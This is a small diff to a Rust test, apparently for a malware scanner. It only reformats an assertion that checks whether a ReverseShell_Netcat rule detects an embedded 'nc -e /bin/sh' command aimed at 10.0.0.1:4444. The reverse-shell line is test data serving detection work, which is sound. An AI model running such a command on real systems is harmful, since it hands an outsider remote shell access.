@@ -642,10 +642,7 @@ fn netcat_rule_past_many_atom_hits() {
     let mut data = b"func sync inc trunc ".repeat(300);
     data.extend_from_slice(b"\nnc -e /bin/sh 10.0.0.1 4444\n");
     let f = e.scan_file("/x/y", &data, false).malware;
-    assert!(
-        f.iter().any(|m| m.rule == "ReverseShell_Netcat"),
-        "{f:?}"
-    );
+    assert!(f.iter().any(|m| m.rule == "ReverseShell_Netcat"), "{f:?}");
     let clean = b"func sync inc trunc /bin/sh ".repeat(300);
     assert!(e.scan_file("/x/z", &clean, false).malware.is_empty());
 }
